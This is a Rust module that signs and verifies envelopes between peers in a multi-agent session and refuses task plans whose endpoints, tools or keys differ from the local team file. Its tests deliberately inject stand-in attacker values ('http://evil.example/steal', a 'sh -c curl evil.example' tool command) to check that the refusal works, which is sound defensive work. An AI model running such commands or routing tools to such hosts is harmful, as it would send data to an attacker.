//! Trust between peers: who may speak in a session, and what a peer never takes from
//! the wire.
//!
//! # Signed envelopes
//! Across processes, anyone who can publish on a session's subjects could otherwise
//! speak as any peer. Every peer therefore has an Ed25519 key pair ([`SecretKey`],
//! [`PublicKey`]); the team file lists the peers' public keys, and the task envelope,
//! which carries the plan, fixes the session's [`Roster`]. Each envelope carries its
//! author's signature in `sig` (`<signer>:<hex>`) over its [`canonical`] encoding: the
//! JSON of every other field, whatever the envelope's kind, so a field added to
//! envelopes later is covered without a change here. [`Roster::verify`] accepts an
//! envelope only when it is signed, by a key on the roster, by its own author (`from`);
//! the task, whose author is the user, is signed by the roster peer that posted it.
//! Backends that carry envelopes between processes sign what they append and verify
//! what they read, once per process; what fails is recorded as rejected at its place,
//! so it can never take a step, a stop, a vote or the final answer.
//!
//! # Decisions that follow from the log
//! A signature says who wrote an envelope, not that what it says is so. Any peer may
//! record the session's stop, so every reader derives the stop again from the log
//! before it and takes it only when it is exactly that decision
//! ([`crate::session::stop_follows`]); one that does not follow is rejected at its
//! place like a forged envelope. What no reader can derive — the clock of a timeout or
//! a wall-time budget, a peer's absence, the size of a prompt a budget refused — is
//! taken from the roster member who signed it.
//!
//! # What a peer executes
//! A session's plan travels in its task envelope, so a peer that joins a session reads
//! the plan from the log. A plan is data the peers agree on (the protocol, the
//! termination, the personas), but part of it is what a peer *executes*: where it sends
//! its transcript (a model's endpoint, headers and query), which secret it reads
//! (`api_key_env`), which commands, HTTP endpoints and MCP servers its tools run, what
//! its offline models answer, and whose keys it trusts. That part
//! always comes from the peer's own team file: [`executable_differences`] lists every
//! place where a task's plan differs from the local one there, and a peer refuses a
//! session for which it is not empty.

use std::collections::{BTreeMap, HashMap};
use std::fmt;
use std::sync::Arc;

use ed25519_dalek::{Signature, Signer as _, SigningKey, VerifyingKey};

use crate::envelope::{Envelope, Kind, PeerId};
use crate::session::USER;
use serde_json::Value;

use crate::team::TeamPlan;

/// A peer's secret signing key. It prints as `***`; [`SecretKey::to_hex`] is for
/// writing the key file only.
#[derive(Clone)]
pub struct SecretKey(SigningKey);

impl fmt::Debug for SecretKey {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("SecretKey(***)")
    }
}

impl SecretKey {
    /// A new key from the operating system's random numbers.
    pub fn generate() -> SecretKey {
        let mut seed = [0u8; 32];
        rand::fill(&mut seed);
        SecretKey(SigningKey::from_bytes(&seed))
    }

    /// A key from its 64 hex digits (surrounding whitespace ignored).
    pub fn from_hex(text: &str) -> Result<SecretKey, String> {
        let mut seed = [0u8; 32];
        hex::decode_to_slice(text.trim(), &mut seed)
            .map_err(|_| "a secret key is 64 hex digits (as `roundtable keys new` writes it)".to_owned())?;
        Ok(SecretKey(SigningKey::from_bytes(&seed)))
    }

    /// The key as 64 hex digits, for its file.
    pub fn to_hex(&self) -> String {
        hex::encode(self.0.to_bytes())
    }

    pub fn public(&self) -> PublicKey {
        PublicKey(self.0.verifying_key())
    }

    /// The signature of `bytes`, 128 hex digits.
    pub fn sign_bytes(&self, bytes: &[u8]) -> String {
        hex::encode(self.0.sign(bytes).to_bytes())
    }
}

/// A peer's public key, written as 64 hex digits.
#[derive(Clone, Copy, PartialEq, Eq)]
pub struct PublicKey(VerifyingKey);

impl fmt::Debug for PublicKey {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "PublicKey({})", self.to_hex())
    }
}

impl PublicKey {
    pub fn parse(text: &str) -> Result<PublicKey, String> {
        let mut bytes = [0u8; 32];
        hex::decode_to_slice(text, &mut bytes)
            .map_err(|_| "a public key is 64 hex digits (as `roundtable keys new` prints it)".to_owned())?;
        VerifyingKey::from_bytes(&bytes)
            .map(PublicKey)
            .map_err(|_| "these 64 hex digits are not an Ed25519 public key".to_owned())
    }

    pub fn to_hex(&self) -> String {
        hex::encode(self.0.to_bytes())
    }

    /// Whether `sig_hex` (128 hex digits) is this key's signature of `bytes`.
    pub fn verify_bytes(&self, bytes: &[u8], sig_hex: &str) -> bool {
        let mut sig = [0u8; 64];
        hex::decode_to_slice(sig_hex, &mut sig).is_ok()
            && self.0.verify_strict(bytes, &Signature::from_bytes(&sig)).is_ok()
    }
}

/// What a signature covers: the envelope's JSON without its `sig`. Serializing a
/// parsed envelope gives back the bytes it was parsed from, so every reader computes
/// the encoding its author signed.
pub fn canonical(env: &Envelope) -> Vec<u8> {
    if env.sig.is_none() {
        return env.to_json().into_bytes();
    }
    let mut unsigned = env.clone();
    unsigned.sig = None;
    unsigned.to_json().into_bytes()
}

/// Sign `env` as `signer` with `key`, replacing any signature it had.
pub fn sign(env: &mut Envelope, signer: &PeerId, key: &SecretKey) {
    env.sig = None;
    let sig = key.0.sign(&canonical(env));
    env.sig = Some(Arc::from(format!("{signer}:{}", hex::encode(sig.to_bytes()))));
}

/// The secret keys of the peers a process runs: [`Signers::sign`] signs each envelope
/// with its author's key, and a task with the key of the first of them.
#[derive(Clone, Debug, Default)]
pub struct Signers {
    keys: BTreeMap<PeerId, SecretKey>,
}

impl Signers {
    pub fn insert(&mut self, peer: PeerId, key: SecretKey) {
        self.keys.insert(peer, key);
    }

    pub fn is_empty(&self) -> bool {
        self.keys.is_empty()
    }

    /// Sign `env` if this process holds its author's key; whether it did.
    pub fn sign(&self, env: &mut Envelope) -> bool {
        let key = match self.keys.get(&env.from) {
            Some(k) => Some((&env.from, k)),
            None if env.kind == Kind::Task && env.from.as_str() == USER => self.keys.iter().next(),
            None => None,
        };
        match key {
            Some((signer, key)) => {
                let signer = signer.clone();
                sign(env, &signer, key);
                true
            }
            None => false,
        }
    }
}

/// The public keys of a session's peers, fixed by its task.
#[derive(Clone, Debug, PartialEq)]
pub struct Roster {
    keys: HashMap<PeerId, PublicKey>,
}

impl Roster {
    /// The roster a plan names: `None` when its peers have no keys (a session whose
    /// envelopes are not signed).
    pub fn of_plan(plan: &crate::team::TeamPlan) -> Result<Option<Roster>, String> {
        let mut keys = HashMap::new();
        for p in &plan.peers {
            if let Some(k) = &p.public_key {
                keys.insert(p.id.clone(), PublicKey::parse(k).map_err(|e| format!("peer {}: {e}", p.id))?);
            }
        }
        if keys.is_empty() {
            return Ok(None);
        }
        if keys.len() < plan.peers.len() {
            return Err("some peers of the plan have no public key".into());
        }
        Ok(Some(Roster { keys }))
    }

    pub fn key(&self, peer: &PeerId) -> Option<&PublicKey> {
        self.keys.get(peer)
    }

    /// Whether `env` is signed by its own author with a key on the roster (the task:
    /// by a peer on the roster); if not, why.
    pub fn verify(&self, env: &Envelope) -> Result<(), String> {
        let Some(sig) = env.sig.as_deref() else {
            return Err(format!("{} {} from {} is not signed", env.kind, env.step, env.from));
        };
        let Some((signer, hex_sig)) = sig.rsplit_once(':') else {
            return Err(format!("{} {} from {}: malformed signature", env.kind, env.step, env.from));
        };
        let task = env.kind == Kind::Task && env.from.as_str() == USER;
        if signer != env.from.as_str() && !task {
            return Err(format!("{} {} claims to be from {} but is signed by {signer}", env.kind, env.step, env.from));
        }
        let Some(key) = self.keys.get(signer) else {
            return Err(format!("{} {} is signed by {signer}, who is not on the session's roster", env.kind, env.step));
        };
        let mut bytes = [0u8; 64];
        hex::decode_to_slice(hex_sig, &mut bytes)
            .map_err(|_| format!("{} {} from {}: malformed signature", env.kind, env.step, env.from))?;
        key.0.verify_strict(&canonical(env), &Signature::from_bytes(&bytes)).map_err(|_| {
            format!("{} {} from {}: the signature does not match the envelope", env.kind, env.step, env.from)
        })
    }
}

/// The key of `local`'s `[trust] plan_signers` that signed `task`, if one did: a task so
/// signed may carry a plan that differs from `local` in what a peer executes. The keys
/// come from the local file only; the task's own plan and roster are not consulted.
pub fn trusted_plan_signer(task: &Envelope, local: &TeamPlan) -> Option<PublicKey> {
    if task.kind != Kind::Task {
        return None;
    }
    let (_, sig_hex) = task.sig.as_deref()?.rsplit_once(':')?;
    let signed = canonical(task);
    local
        .trust
        .plan_signers
        .iter()
        .filter_map(|k| PublicKey::parse(k).ok())
        .find(|key| key.verify_bytes(&signed, sig_hex))
}

/// Every difference between `task` (the plan a session's task carries) and `local`
/// (the peer's own team file) in what a peer would execute: the models (provider,
/// endpoint, API-key variable, headers, query, model name, replies, limits and prices),
/// the tools (commands, HTTP requests, MCP servers, approvals), which model and which
/// tools each peer has, and the peers' public keys. Each difference is one line naming the key path
/// and both values (`models.g.provider.base_url: the task says "…", the team file says "…"`).
/// Secrets are never in a plan (only the names of the variables holding them), so the
/// lines may be shown.
pub fn executable_differences(task: &TeamPlan, local: &TeamPlan) -> Vec<String> {
    let mut out = Vec::new();
    let models = |p: &TeamPlan| serde_json::to_value(&p.models).unwrap_or(Value::Null);
    diff("models", &models(task), &models(local), &mut out);
    let tools = |p: &TeamPlan| serde_json::to_value(&p.tools).unwrap_or(Value::Null);
    diff("tools", &tools(task), &tools(local), &mut out);
    let assignment = |p: &TeamPlan| -> Value {
        p.peers
            .iter()
            .map(|s| {
                let mut v = serde_json::Map::new();
                v.insert("model".into(), Value::String(s.model.clone()));
                if !s.tools.is_empty() {
                    v.insert("tools".into(), s.tools.iter().cloned().map(Value::String).collect());
                }
                if let Some(k) = &s.public_key {
                    v.insert("public_key".into(), Value::String(k.clone()));
                }
                (s.id.to_string(), Value::Object(v))
            })
            .collect::<serde_json::Map<_, _>>()
            .into()
    };
    diff("peers", &assignment(task), &assignment(local), &mut out);
    out
}

fn diff(path: &str, task: &Value, local: &Value, out: &mut Vec<String>) {
    match (task, local) {
        (Value::Object(t), Value::Object(l)) => {
            let keys: std::collections::BTreeSet<&String> = t.keys().chain(l.keys()).collect();
            for k in keys {
                let sub = format!("{path}.{k}");
                match (t.get(k), l.get(k)) {
                    (Some(a), Some(b)) => diff(&sub, a, b, out),
                    (Some(a), None) => out.push(format!("{sub}: the task says {}, the team file has none", shown(a))),
                    (None, Some(b)) => out.push(format!("{sub}: the task has none, the team file says {}", shown(b))),
                    (None, None) => {}
                }
            }
        }
        (a, b) if a != b => out.push(format!("{path}: the task says {}, the team file says {}", shown(a), shown(b))),
        _ => {}
    }
}

/// A value as a line shows it: JSON, cut at 120 characters.
fn shown(v: &Value) -> String {
    let s = v.to_string();
    match s.char_indices().nth(120) {
        Some((i, _)) => format!("{}…", &s[..i]),
        None => s,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::team::{NoEnv, parse_team};

    const TEAM: &str = r#"
name = "t"
topic = "x"
[models.g]
provider = "openai"
model = "gpt-4o-mini"
base_url = "http://127.0.0.1:9/v1"
[models.s]
provider = "scripted"
replies = ["a"]
[[peers]]
id = "a"
model = "g"
[[peers]]
id = "b"
model = "s"
[protocol]
kind = "round_robin"
rounds = 1
"#;

    fn plan(src: &str) -> TeamPlan {
        parse_team("t.toml", src, &NoEnv).unwrap()
    }

    #[test]
    fn the_same_plan_has_no_differences_and_the_topic_and_personas_are_not_executed() {
        let local = plan(TEAM);
        assert!(executable_differences(&local, &local).is_empty());
        let other = plan(&TEAM.replace("topic = \"x\"", "topic = \"y\"").replace("rounds = 1", "rounds = 2"));
        assert!(executable_differences(&other, &local).is_empty());
    }

    #[test]
    fn an_endpoint_a_key_variable_a_new_model_or_a_reassigned_peer_is_a_difference() {
        let local = plan(TEAM);
        let task = plan(
            &TEAM
                .replace("http://127.0.0.1:9/v1", "http://evil.example/v1")
                .replace("model = \"s\"", "model = \"g\"")
                .replace("[models.s]", "[models.t]\nprovider = \"scripted\"\nreplies = [\"z\"]\n[models.s]"),
        );
        let d = executable_differences(&task, &local);
        assert!(
            d.contains(&"models.g.provider.base_url: the task says \"http://evil.example/v1\", the team file says \"http://127.0.0.1:9/v1\"".to_owned()),
            "{d:#?}"
        );
        assert!(d.iter().any(|l| l.starts_with("models.t: the task says {")), "{d:#?}");
        assert!(d.contains(&"peers.b.model: the task says \"g\", the team file says \"s\"".to_owned()), "{d:#?}");
        assert_eq!(d.len(), 3, "{d:#?}");
    }

    #[test]
    fn a_tool_command_an_http_url_or_a_grant_is_a_difference() {
        let tools = "[tools.status]\nkind = \"http\"\ndescription = \"d\"\nurl = \"http://127.0.0.1:8080/status\"\n\
                     [tools.check]\nkind = \"command\"\ndescription = \"d\"\nargv = [\"true\"]\n";
        let with =
            |src: &str| plan(&format!("{}{tools}", src.replace("id = \"a\"\n", "id = \"a\"\ntools = [\"status\"]\n")));
        let local = with(TEAM);
        assert!(executable_differences(&local, &local).is_empty());
        let task = plan(
            &format!("{}{tools}", TEAM.replace("id = \"a\"\n", "id = \"a\"\ntools = [\"check\"]\n"))
                .replace("http://127.0.0.1:8080/status", "http://evil.example/steal")
                .replace("argv = [\"true\"]", "argv = [\"sh\", \"-c\", \"curl evil.example\"]"),
        );
        let d = executable_differences(&task, &local);
        assert!(
            d.iter().any(|l| l.starts_with("tools.status.url: the task says \"http://evil.example/steal\"")),
            "{d:#?}"
        );
        assert!(d.iter().any(|l| l.starts_with("tools.check.argv: the task says [\"sh\",\"-c\"")), "{d:#?}");
        assert!(d.iter().any(|l| l.starts_with("peers.a.tools: the task says [\"check\"]")), "{d:#?}");
    }

    fn roster(peers: &[(&str, &SecretKey)]) -> Roster {
        Roster { keys: peers.iter().map(|(p, k)| (PeerId::from(*p), k.public())).collect() }
    }

    #[test]
    fn a_signature_covers_every_field_of_every_kind_and_names_its_author() {
        use crate::envelope::{Body, Recipient, SessionId, Usage};
        let (a, b, outsider) = (SecretKey::generate(), SecretKey::generate(), SecretKey::generate());
        let r = roster(&[("a", &a), ("b", &b)]);
        let s = SessionId::from("s");
        for kind in Kind::ALL {
            let mut env = Envelope::new(&s, &"a".into(), "turn/1", kind, Recipient::All, Body::text("hi"))
                .with_usage(Usage { model: "m".into(), prompt_tokens: 3, cost_usd: 0.25, ..Default::default() });
            env.body.json = Some(serde_json::json!({"z": 1, "a": [1.5, "é", null]}));
            sign(&mut env, &"a".into(), &a);
            assert_eq!(r.verify(&env), Ok(()), "{kind}");
            // What a reader parses from the wire verifies the same.
            let wire = Envelope::from_json(env.to_json().as_bytes()).unwrap();
            assert_eq!(r.verify(&wire), Ok(()), "{kind} from the wire");

            let tampered: Vec<(&str, Box<dyn Fn(&mut Envelope)>)> = vec![
                ("text", Box::new(|e| e.body.text = "bye".into())),
                ("json", Box::new(|e| e.body.json = Some(serde_json::json!({"z": 2})))),
                ("to", Box::new(|e| e.to = Recipient::Peer("b".into()))),
                ("step", Box::new(|e| e.step = "turn/2".into())),
                ("round", Box::new(|e| e.round = 9)),
                ("usage", Box::new(|e| e.usage.as_mut().unwrap().cost_usd = 0.0)),
                ("parents", Box::new(|e| e.parents.push(EnvelopeIdFor::x()))),
                ("time", Box::new(|e| e.time_ms += 1)),
                ("trace", Box::new(|e| e.trace = Some("00-x".into()))),
                ("kind", Box::new(move |e| e.kind = if kind == Kind::Vote { Kind::Stop } else { Kind::Vote })),
            ];
            for (field, change) in tampered {
                let mut t = env.clone();
                change(&mut t);
                let err = r.verify(&t).expect_err(field);
                assert!(err.contains("does not match"), "{field}: {err}");
            }
            // Another author, an outsider, a peer signing in another's name, no signature.
            let mut other = env.clone();
            other.from = "b".into();
            assert!(r.verify(&other).unwrap_err().contains("claims to be from b but is signed by a"));
            let mut forged = env.clone();
            sign(&mut forged, &"a".into(), &b);
            assert!(r.verify(&forged).unwrap_err().contains("does not match"));
            let mut out = env.clone();
            out.from = "mallory".into();
            sign(&mut out, &"mallory".into(), &outsider);
            assert!(r.verify(&out).unwrap_err().contains("not on the session's roster"));
            let mut bare = env.clone();
            bare.sig = None;
            assert!(r.verify(&bare).unwrap_err().contains("is not signed"));
        }
    }

    struct EnvelopeIdFor;
    impl EnvelopeIdFor {
        fn x() -> crate::envelope::EnvelopeId {
            crate::envelope::EnvelopeId::from("0123456789abcdef0123456789abcdef")
        }
    }

    #[test]
    fn a_task_is_signed_by_a_peer_on_the_roster_and_signers_sign_their_own() {
        use crate::envelope::{Body, Recipient, SessionId};
        let (a, b) = (SecretKey::generate(), SecretKey::generate());
        let r = roster(&[("a", &a), ("b", &b)]);
        let mut signers = Signers::default();
        signers.insert("b".into(), b.clone());
        let s = SessionId::from("s");
        let mut task = Envelope::new(&s, &USER.into(), "task", Kind::Task, Recipient::All, Body::text("t"));
        assert!(signers.sign(&mut task));
        assert!(task.sig.as_deref().unwrap().starts_with("b:"));
        assert_eq!(r.verify(&task), Ok(()));
        let mut turn = Envelope::new(&s, &"a".into(), "turn/1", Kind::Message, Recipient::All, Body::text("x"));
        assert!(!signers.sign(&mut turn), "b's process holds no key of a's");
        let mut message = Envelope::new(&s, &USER.into(), "m", Kind::Message, Recipient::All, Body::text("x"));
        message.sig = task.sig.clone();
        assert!(r.verify(&message).is_err(), "only a task may be signed for the user");
    }

    #[test]
    fn a_task_signed_by_a_key_the_local_file_trusts_for_plans_is_the_only_exception() {
        use crate::envelope::{Body, Recipient, SessionId};
        let (trusted, other) = (SecretKey::generate(), SecretKey::generate());
        let local = plan(&format!("{TEAM}[trust]\nplan_signers = [\"{}\"]\n", trusted.public().to_hex()));
        assert_eq!(local.trust.plan_signers, [trusted.public().to_hex()]);
        let s = SessionId::from("s");
        let task = |key: &SecretKey| {
            let mut t = Envelope::new(&s, &USER.into(), "task", Kind::Task, Recipient::All, Body::text("t"));
            sign(&mut t, &"a".into(), key);
            t
        };
        assert_eq!(trusted_plan_signer(&task(&trusted), &local), Some(trusted.public()));
        assert_eq!(trusted_plan_signer(&task(&other), &local), None, "a key the file does not name");
        assert_eq!(trusted_plan_signer(&task(&trusted), &plan(TEAM)), None, "a file that trusts no one");
        let mut altered = task(&trusted);
        altered.body.text = "another task".into();
        assert_eq!(trusted_plan_signer(&altered, &local), None, "a signature that does not match");
        let mut unsigned = task(&trusted);
        unsigned.sig = None;
        assert_eq!(trusted_plan_signer(&unsigned, &local), None);
        // A bad key in the file is an error at its key.
        let err = parse_team("t.toml", &format!("{TEAM}[trust]\nplan_signers = [\"zz\"]\n"), &NoEnv).unwrap_err();
        assert!(err.to_string().contains("trust.plan_signers[0]"), "{err}");
    }

    #[test]
    fn keys_round_trip_through_hex_and_bad_ones_are_named() {
        let k = SecretKey::generate();
        assert_eq!(SecretKey::from_hex(&format!("{}\n", k.to_hex())).unwrap().public(), k.public());
        assert_eq!(PublicKey::parse(&k.public().to_hex()).unwrap(), k.public());
        assert!(PublicKey::parse("zz").unwrap_err().contains("64 hex digits"));
        assert!(SecretKey::from_hex("12").unwrap_err().contains("64 hex digits"));
        assert_eq!(format!("{k:?}"), "SecretKey(***)");
    }
}
